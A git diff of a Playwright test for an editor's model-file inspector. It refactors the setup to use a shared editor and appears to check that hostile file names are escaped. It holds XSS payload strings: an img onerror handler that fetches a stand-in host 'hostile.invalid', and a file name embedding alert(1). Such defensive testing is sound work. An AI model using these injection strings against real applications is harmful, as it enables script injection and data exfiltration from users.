@@ -2,30 +2,24 @@ import assert from 'node:assert/strict';
 import { copyFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import type { Frame, Page } from 'playwright-core';
-import { type InstalledEditor, openInstalledEditor } from '../support/installedEditor';
 import { byId, inspect } from '../support/inspectorPage';
 import { inRepository } from '../support/repository';
-import {
-  collectComplaints,
-  explorerRow,
-  openWorkbench,
-  type PageComplaints,
-  quiet,
-} from '../support/workbench';
+import { openSharedEditor, type SharedEditor } from '../support/sharedEditor';
+import { collectComplaints, explorerRow, type PageComplaints, quiet } from '../support/workbench';
 
 const markup = '<img src=x onerror="fetch(\'http://hostile.invalid/';
 /** A file name may hold no slash. */
 const modelName = '<img src=x onerror=alert(1)>-encoder.onnx';
 
 describe('Names that a stranger wrote', () => {
-  let editor: InstalledEditor;
+  let editor: SharedEditor;
   let page: Page;
   let frame: Frame;
   let complaints: PageComplaints;
   const requests: string[] = [];
 
   before(async () => {
-    editor = await openInstalledEditor();
+    editor = await openSharedEditor();
     const place = (fixture: string, name: string) => {
       copyFileSync(inRepository('test', 'fixtures', 'hostile', fixture), path.join(editor.workspace, name));
     };
@@ -37,7 +31,7 @@ describe('Names that a stranger wrote', () => {
       path.join(editor.workspace, modelName.replace('.onnx', '.vae.json')),
       JSON.stringify(setUp),
     );
-    page = await openWorkbench(editor.browser, editor.server, editor.workspace);
+    page = await editor.show();
     complaints = collectComplaints(page);
     page.on('request', (request) => requests.push(request.url()));
     await explorerRow(page, modelName).waitFor();
